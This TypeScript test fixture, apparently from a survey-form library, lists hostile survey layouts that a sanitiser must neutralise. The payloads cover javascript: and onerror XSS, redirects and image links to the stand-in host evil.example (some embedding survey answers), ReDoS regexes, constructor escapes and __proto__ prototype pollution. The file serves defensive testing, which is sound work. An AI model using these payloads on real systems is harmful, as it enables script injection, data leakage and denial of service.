/** Layouts that try to run, to call home or to lead away. For tests only. */
import { pageOf, textQuestion } from './openSurvey.ts';

const parsed = (json: string): unknown => JSON.parse(json);

/** What it tries; the layout; what must not be left of it. */
export const hostileLayouts: readonly (readonly [string, unknown, RegExp])[] = [
  ['a script to be led to', { ...pageOf(textQuestion), navigateToUrl: 'javascript:pwned()' }, /pwned/],
  ['another site to be led to', { ...pageOf(textQuestion), navigateToUrl: 'https://evil.example' }, /evil/],
  [
    'another site on a condition',
    {
      ...pageOf(textQuestion),
      navigateToUrlOnCondition: [{ url: 'https://evil.example', expression: '1=1' }],
    },
    /evil/,
  ],
  [
    'markup before it is completed',
    { ...pageOf(textQuestion), completedBeforeHtml: '<img src=x onerror=pwned()>' },
    /pwned/,
  ],
  ['markup while it loads', { ...pageOf(textQuestion), loadingHtml: '<script>pwned()</script>' }, /pwned/],
  ['a cookie', { ...pageOf(textQuestion), cookieName: 'session' }, /session/],
  [
    'a survey service',
    { ...pageOf(textQuestion), surveyId: 'evil', surveyPostId: 'evil', clientId: 'evil' },
    /evil/,
  ],
  [
    'a page that sends by itself',
    { ...pageOf(textQuestion), sendResultOnPageNext: true, partialSendEnabled: true },
    /true/,
  ],
  [
    'a form that ends by itself',
    { ...pageOf(textQuestion), maxTimeToFinish: 1, timeLimit: 1, timeLimitPerPage: 1 },
    /[lL]imit|max/,
  ],
  [
    'a page that completes by itself',
    { ...pageOf(textQuestion), autoAdvanceEnabled: true, goNextPageAutomatic: true },
    /true/,
  ],
  [
    'a start page without a question',
    { ...pageOf(textQuestion), firstPageIsStarted: true, firstPageIsStartPage: true },
    /true/,
  ],
  [
    'a picture behind it all',
    { ...pageOf(textQuestion), backgroundImage: 'https://evil.example/p.png' },
    /evil/,
  ],
  ['a logo', { ...pageOf(textQuestion), logo: 'https://evil.example/p.png' }, /evil/],
  [
    'classes',
    { ...pageOf({ ...textQuestion, cssClasses: { root: 'evil' } }), css: { root: 'evil' } },
    /evil/,
  ],
  [
    'functions of its own',
    { ...pageOf(textQuestion), customFunctions: { f: 'pwned()' }, functions: ['pwned()'] },
    /pwned/,
  ],
  ['a component', pageOf({ ...textQuestion, component: 'evil', itemComponent: 'evil' }), /evil/],
  ['actions of a title', pageOf({ ...textQuestion, titleActions: [{ action: 'pwned()' }] }), /pwned/],
  [
    'choices of another site',
    pageOf({ ...textQuestion, type: 'dropdown', choicesByUrl: { url: 'https://evil.example' } }),
    /evil/,
  ],
  [
    'choices of another site, no scheme',
    pageOf({ ...textQuestion, type: 'dropdown', choicesByUrl: { url: '//evil.example' } }),
    /evil/,
  ],
  [
    'choices of another site, by backslash',
    pageOf({ ...textQuestion, type: 'dropdown', choicesByUrl: { url: '/\\evil.example' } }),
    /evil/,
  ],
  [
    'choices of another site, by a tab',
    pageOf({ ...textQuestion, type: 'dropdown', choicesByUrl: { url: '/\t/evil.example/x' } }),
    /evil/,
  ],
  [
    'choices of another site, by a line',
    pageOf({ ...textQuestion, type: 'dropdown', choicesByUrl: { url: '/\n/evil.example/x' } }),
    /evil/,
  ],
  [
    'choices at an address that is typed',
    pageOf({ ...textQuestion, type: 'dropdown', choicesByUrl: { url: '/{a}' } }),
    /\{a\}/,
  ],
  [
    'choices at an address by itself',
    pageOf({ ...textQuestion, type: 'dropdown', choicesByUrl: 'https://evil.example' }),
    /evil/,
  ],
  [
    'choices of a column from elsewhere',
    pageOf({
      type: 'matrixdropdown',
      name: 'a',
      columns: [{ name: 'c', choicesByUrl: { url: 'http://evil.example' } }],
    }),
    /evil/,
  ],
  ['a script as a picture', pageOf({ type: 'image', name: 'i', imageLink: 'javascript:pwned()' }), /pwned/],
  [
    'a script as a picture of one language',
    pageOf({ type: 'image', name: 'i', imageLink: { ar: 'javascript:pwned()' } }),
    /pwned/,
  ],
  [
    'a script as a picture, with a tab in it',
    pageOf({ type: 'image', name: 'i', imageLink: 'java\tscript:pwned()' }),
    /pwned/,
  ],
  [
    'a page written out as a picture',
    pageOf({ type: 'image', name: 'i', imageLink: 'data:text/html,pwned' }),
    /pwned/,
  ],
  [
    'a drawing as a picture',
    pageOf({ type: 'image', name: 'i', imageLink: 'data:image/svg+xml;base64,PHN2Zz4=' }),
    /svg/,
  ],
  [
    'a picture without TLS',
    pageOf({ type: 'image', name: 'i', imageLink: 'http://evil.example/p.png' }),
    /evil/,
  ],
  [
    'a picture of another site, no scheme',
    pageOf({ type: 'image', name: 'i', imageLink: '//evil.example/p.png' }),
    /evil/,
  ],
  [
    'an answer in a picture’s address',
    pageOf(textQuestion, { type: 'image', name: 'i', imageLink: 'https://evil.example/{a}.png' }),
    /evil/,
  ],
  [
    'a picture to be picked that calls home',
    pageOf({
      type: 'imagepicker',
      name: 'i',
      choices: [{ value: 1, imageLink: 'https://evil.example/{a}' }],
    }),
    /evil/,
  ],
  [
    'a frame',
    pageOf({
      type: 'image',
      name: 'i',
      contentMode: 'youtube',
      imageLink: 'https://www.youtube.com/watch?v=evil',
    }),
    /youtube/,
  ],
  [
    'a frame that is found out',
    pageOf({ type: 'image', name: 'i', imageLink: 'https://youtu.be/evil' }),
    /youtu/,
  ],
  [
    'a pattern that never ends',
    pageOf({ ...textQuestion, validators: [{ type: 'regex', text: 'x', regex: '(a+)+$' }] }),
    /a\+/,
  ],
  [
    'a pattern in a list',
    pageOf({ ...textQuestion, validators: [{ type: 'regex', text: 'x', regex: ['(a+)+$'] }] }),
    /a\+/,
  ],
  [
    'a condition in brackets of brackets',
    pageOf({ ...textQuestion, visibleIf: `${'('.repeat(500)}1` }),
    /\(\(/,
  ],
  ['a condition without end', pageOf({ ...textQuestion, visibleIf: `{a}${' or {a}'.repeat(2_000)}` }), /or/],
  ['a condition in a list', pageOf({ ...textQuestion, visibleIf: ['{a} = 1'] }), /visibleIf/],
  [
    'the constructor’s constructor',
    pageOf({ ...textQuestion, defaultValueExpression: "constructor('pwned()')" }),
    /pwned/,
  ],
  ['the prototype called', pageOf({ ...textQuestion, visibleIf: "__proto__('x') = 1" }), /__proto__/],
  [
    'an answer’s constructor',
    pageOf({ ...textQuestion, visibleIf: '{a.constructor.constructor} notempty' }),
    /constructor/,
  ],
  [
    'a question’s constructor',
    pageOf({ ...textQuestion, visibleIf: "propertyValue('a', 'constructor') = 1" }),
    /constructor/,
  ],
  [
    'the prototype of a layout',
    parsed('{"__proto__":{"evil":1},"pages":[{"elements":[{"type":"text","name":"a"}]}]}'),
    /evil/,
  ],
  [
    'the prototype of a question',
    parsed('{"pages":[{"elements":[{"type":"text","name":"a","__proto__":{"evil":1}}]}]}'),
    /evil/,
  ],
  [
    'the prototype of choices',
    parsed(
      '{"pages":[{"elements":[{"type":"dropdown","name":"a","choicesByUrl":{"url":"/x","__proto__":{"evil":1}}}]}]}',
    ),
    /evil/,
  ],
  [
    'a question called like the prototype',
    pageOf({ type: 'text', name: '__proto__' }, textQuestion),
    /__proto__/,
  ],
  [
    'a question called «constructor»',
    pageOf({ type: 'text', name: 'constructor' }, textQuestion),
    /constructor/,
  ],
  ['a value kept as the prototype', pageOf({ ...textQuestion, valueName: '__proto__' }), /__proto__/],
  [
    'an answer put into the prototype',
    {
      ...pageOf(textQuestion),
      triggers: [{ type: 'setvalue', expression: '1=1', setToName: '__proto__', setValue: 'evil' }],
    },
    /__proto__/,
  ],
  ['a kind that is no word', pageOf({ type: { evil: 1 }, name: 'a' }), /evil/],
  [
    'a column called «toString»',
    pageOf({ type: 'matrixdynamic', name: 'm', columns: [{ name: 'toString' }] }),
    /toString/,
  ],
  ['a function', { ...pageOf({ ...textQuestion, defaultValue: () => 'pwned' }) }, /pwned/],
];
